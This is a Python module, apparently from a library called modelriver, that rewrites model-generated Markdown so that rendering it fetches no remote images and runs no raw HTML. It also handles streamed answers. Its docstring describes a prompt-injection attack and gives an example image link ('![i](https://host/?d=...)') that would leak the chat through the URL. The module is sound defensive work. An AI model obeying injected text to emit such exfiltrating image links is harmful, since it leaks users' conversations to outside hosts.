"""Model Markdown made safe to render: no remote images, no raw HTML; links stay links.

Model output is untrusted: a prompt injection can make an answer carry ``![i](https://host/?d=...)``,
which a Markdown renderer turns into an ``<img>`` the browser fetches with no click (leaking the
chat through the URL), or raw HTML. ``safe_markdown`` rewrites such Markdown source so that any
renderer (Streamlit's, Gradio's) shows it as text:

- an image becomes a link ``[alt (url)](url)`` (unless ``allow_remote_media``);
- any other ``![`` and every ``<`` that could open an HTML tag are backslash-escaped, so no
  renderer's image or HTML syntax can start there;
- code (fenced, indented, inline) and autolinks are left as they are: nothing renders in them.

The source is parsed with markdown-it-py (CommonMark + tables + strikethrough) to know where code
and images are; the edits are applied to the source, so everything else (emphasis, lists,
tables, math, a renderer's own directives) is kept byte for byte. Needs ``markdown-it-py``
(``pip install "modelriver[markdown]"``; the Streamlit and Gradio integrations depend on it).
"""

from __future__ import annotations

import bisect
import itertools
import math
import re
from collections.abc import Callable
from functools import cache
from typing import Any

from markdown_it import MarkdownIt, rules_inline
from markdown_it.rules_inline import StateInline
from markdown_it.token import Token

__all__ = ["SafeMarkdown", "escape_markdown", "safe_markdown"]

_CANDIDATE = re.compile(r"!\[|<[A-Za-z/!?]")
"""Where an image (``![``) or an HTML tag, comment or declaration (``<x``, ``</``, ``<!``, ``<?``) may start."""
_HTML_START = re.compile(r"<[A-Za-z/!?]")
_PUNCT = re.compile(r"""([!"#$%&'()*+,\-./:;<=>?@\[\\\]^_`{|}~])""")
_MAX_PASSES = 6
_URL_SHOWN = 80
_STABLE_BLOCKS = frozenset({"paragraph_open", "heading_open", "fence", "hr", "table_open"})
_EAGER = 64
"""An unfinished block up to this long is rewritten on every call; a longer one once it grew by
``1/_LAG`` of its length (else the last rewrite is shown): linear time for any growing text."""
_LAG = 8

Edit = tuple[int, int, str]  # (start, end, replacement) in source offsets


def escape_markdown(text: str) -> str:
    """``text`` as Markdown that renders as exactly that text: every ASCII punctuation escaped.

    Args:
        text: plain text (a name, an error message, alt text).

    Returns:
        The text with a backslash before each ASCII punctuation character (CommonMark escapes).
    """
    return _PUNCT.sub(r"\\\1", text)


def safe_markdown(text: str, *, allow_remote_media: bool = False) -> str:
    """Model Markdown rewritten so that rendering it loads nothing and runs no HTML.

    Args:
        text: Markdown from a model (or any untrusted source).
        allow_remote_media: keep images as images (the renderer will fetch them); raw HTML is
            escaped either way.

    Returns:
        The Markdown with images turned into links (``[alt (url)](url)``) and every ``![`` or
        ``<``-tag outside code escaped. Line endings are normalised to ``\\n``.
    """
    text = _normalize(text)
    pattern = _HTML_START if allow_remote_media else _CANDIDATE
    if pattern.search(text) is None:
        return text
    for _ in range(_MAX_PASSES):
        edits = _edits(text, allow_remote_media)
        if edits is None:  # a line that could not be mapped back: the always-safe fallback
            return escape_markdown(text)
        if not edits:
            return text
        text = _apply(text, edits)
    return escape_markdown(text)


class SafeMarkdown:
    """``safe_markdown`` for a text that grows (a streamed answer), in time linear in its length.

    Finished top-level blocks (a paragraph, heading, closed fence, rule or table followed by a
    blank line) are rewritten once and kept; each call rewrites only what follows them. While
    that unfinished part is long, it is rewritten again only once it has grown by an eighth, and
    the call returns the last rewrite meanwhile (a little behind the text, never unsafe);
    ``final=True`` always returns the whole text. A text that is not a continuation of the
    previous one starts over.

    Args:
        allow_remote_media: as for ``safe_markdown``.
    """

    def __init__(self, *, allow_remote_media: bool = False) -> None:
        self.allow_remote_media = allow_remote_media
        self._source = ""
        self._output = ""
        self._tail: tuple[str, str] = ("", "")

    def __call__(self, text: str, *, final: bool = False) -> str:
        """The safe Markdown of ``text`` (see ``safe_markdown``), or of a prefix of it while streaming.

        Args:
            text: the whole text so far.
            final: the text is complete: rewrite all of it now.

        Returns:
            ``safe_markdown(text)``; unless ``final``, possibly that of a shorter prefix.
        """
        text = _normalize(text)
        if not text.startswith(self._source):
            self._source = self._output = ""
            self._tail = ("", "")
        tail = text[len(self._source):]
        last_in, last_out = self._tail
        if (not final and len(last_in) >= _EAGER and tail.startswith(last_in)
                and len(tail) - len(last_in) < len(last_in) // _LAG):
            return self._output + last_out
        cut = _stable_cut(tail) if "\n\n" in tail else 0
        if cut:
            self._source += tail[:cut]
            self._output += safe_markdown(tail[:cut], allow_remote_media=self.allow_remote_media)
            tail = tail[cut:]
        self._tail = (tail, safe_markdown(tail, allow_remote_media=self.allow_remote_media))
        return self._output + self._tail[1]


# -- parsing -------------------------------------------------------------------------------------

@cache
def _parser() -> MarkdownIt:
    """Block-level parser (inline content is tokenized per block, by ``_inline_spans``)."""
    md = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    md.disable("inline")  # the core rule: inline tokens keep their content, no children
    for name, rule in (("backticks", rules_inline.backtick), ("autolink", rules_inline.autolink),
                       ("image", rules_inline.image)):
        md.inline.ruler.at(name, _recording(name, rule))
    return md


def _recording(name: str, rule: Callable[[StateInline, bool], bool]) -> Callable[[StateInline, bool], bool]:
    """``rule``, noting where it matched in the content being rewritten (not in nested parses)."""

    def wrapper(state: StateInline, silent: bool) -> bool:
        start = state.pos
        matched = rule(state, silent)
        spans = state.env.get("_modelriver_spans")
        if matched and not silent and spans is not None and spans[0] is state:
            spans.append((name, start, state.pos, state.tokens[-1] if name == "image" else None))
        return matched

    return wrapper


def _normalize(text: str) -> str:
    # As markdown-it's own normalize rule: its offsets then match ours.
    return text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")


def _line_starts(text: str) -> list[int]:
    starts = [0]
    starts.extend(m.end() for m in re.finditer("\n", text))
    return starts


def _edits(text: str, allow_remote_media: bool) -> list[Edit] | None:
    """One pass: the edits that make ``text`` safe, or None when a block cannot be mapped."""
    md = _parser()
    env: dict[str, Any] = {}
    tokens = md.parse(text, env)
    starts = _line_starts(text)
    lines = text.split("\n")
    cursors: dict[int, int] = {}
    edits: list[Edit] = []
    in_table = False
    for token in tokens:
        if token.type == "table_open":
            in_table = True
        elif token.type == "table_close":
            in_table = False
        elif token.type == "html_block" and token.map is not None:
            line = token.map[0]
            col = lines[line].find("<")
            if col < 0:
                return None
            edits.append((starts[line] + col, starts[line] + col, "\\"))
        elif token.type == "inline" and token.map is not None:
            found = _inline_edits(md, env, token, allow_remote_media)
            if not found:
                continue
            offsets = _map_lines(token.content, lines, token.map[0], cursors if in_table else None)
            if offsets is None:
                return None
            line_starts = _line_starts(token.content)
            for start, end, replacement in found:
                edits.append((_to_source(start, line_starts, offsets, starts, token.map[0]),
                               _to_source(end, line_starts, offsets, starts, token.map[0]),
                               replacement))
    return edits


def _map_lines(content: str, lines: list[str], first: int, cursors: dict[int, int] | None) -> list[int] | None:
    """Where each line of an inline token's content starts in its source line (column)."""
    offsets = []
    for index, part in enumerate(content.split("\n")):
        number = first + index
        if number >= len(lines):
            return None
        line = lines[number]
        if cursors is not None:  # a table cell: cells of one row are found left to right
            col = line.find(part, cursors.get(number, 0))
            if col >= 0:
                cursors[number] = col + len(part)
        elif line.endswith(part):
            col = len(line) - len(part)
        elif line.rstrip().endswith(part):
            col = len(line.rstrip()) - len(part)
        else:
            col = line.rfind(part)  # an ATX heading's closing #s
        if col < 0:
            return None
        offsets.append(col)
    return offsets


def _to_source(pos: int, content_starts: list[int], offsets: list[int], starts: list[int], first: int) -> int:
    index = _line_of(pos, content_starts)
    return starts[first + index] + offsets[index] + (pos - content_starts[index])


def _line_of(pos: int, starts: list[int]) -> int:
    low, high = 0, len(starts) - 1
    while low < high:
        mid = (low + high + 1) // 2
        if starts[mid] <= pos:
            low = mid
        else:
            high = mid - 1
    return low


def _inline_edits(md: MarkdownIt, env: dict[str, Any], token: Token, allow_remote_media: bool) -> list[Edit]:
    """Edits in the coordinates of the inline token's content."""
    content = token.content
    pattern = _HTML_START if allow_remote_media else _CANDIDATE
    if pattern.search(content) is None:
        return []
    state = StateInline(content, md, env, [])
    spans: list[Any] = [state]
    env["_modelriver_spans"] = spans
    try:
        md.inline.tokenize(state)
    finally:
        del env["_modelriver_spans"]
    skip = [(start, end) for kind, start, end, _ in spans[1:] if kind in ("backticks", "autolink")]
    replaced: list[tuple[int, int]] = []
    edits: list[Edit] = []
    if not allow_remote_media:
        for kind, start, end, image in spans[1:]:
            if kind == "image" and not _inside(start, replaced):
                if start and content[start - 1] == "!" and not _escaped(content, start - 1):
                    edits.append((start - 1, start - 1, "\\"))  # "!" + the link would be an image
                edits.append((start, end, _image_link(image)))
                replaced.append((start, end))
    skip = sorted(skip + replaced)
    for match in pattern.finditer(content):
        pos = match.start()
        if _inside(pos, skip) or _escaped(content, pos):
            continue
        edits.append((pos, pos, "\\"))
    return edits


def _inside(pos: int, spans: list[tuple[int, int]]) -> bool:
    """True when ``pos`` falls in one of ``spans`` (sorted by start; spans nest or are disjoint)."""
    index = bisect.bisect_right(spans, (pos, math.inf)) - 1
    return index >= 0 and spans[index][0] <= pos < spans[index][1]


def _escaped(text: str, pos: int) -> bool:
    """True when an odd number of backslashes precede ``pos``."""
    count = 0
    while pos > count and text[pos - count - 1] == "\\":
        count += 1
    return count % 2 == 1


def _plain(tokens: list[Token]) -> str:
    """The text an inline token list shows (an image's alt text)."""
    parts = []
    for token in tokens:
        if token.type in ("text", "text_special", "code_inline"):
            parts.append(token.content)
        elif token.type in ("softbreak", "hardbreak"):
            parts.append(" ")
        elif token.children:
            parts.append(_plain(token.children))
    return "".join(parts)


def _image_link(image: Token) -> str:
    alt = _plain(image.children or [])
    url = str(image.attrGet("src") or "")
    shown = url if len(url) <= _URL_SHOWN else url[: _URL_SHOWN - 1] + "…"
    label = " ".join(f"{alt} ({shown})".split()) if alt.strip() else shown
    destination = url.replace("\\", "%5C").replace("(", "%28").replace(")", "%29").replace(" ", "%20")
    return f"[{escape_markdown(label)}]({destination})"


def _apply(text: str, edits: list[Edit]) -> str:
    out = []
    last = 0
    for start, end, replacement in sorted(edits):
        if start < last:  # overlapping (cannot happen: images are skipped); keep the first
            continue
        out.append(text[last:start])
        out.append(replacement)
        last = end
    out.append(text[last:])
    return "".join(out)


def _stable_cut(text: str) -> int:
    """The offset of the last top-level block that ``text`` can be split before and rewritten apart."""
    tokens = _parser().parse(text, {})
    blocks = [t for t in tokens if t.level == 0 and t.nesting >= 0 and t.map is not None]
    starts = _line_starts(text)
    cut = 0
    for before, after in itertools.pairwise(blocks):
        assert before.map is not None and after.map is not None
        if before.type in _STABLE_BLOCKS and before.map[1] < after.map[0]:
            cut = starts[after.map[0]]
    return cut
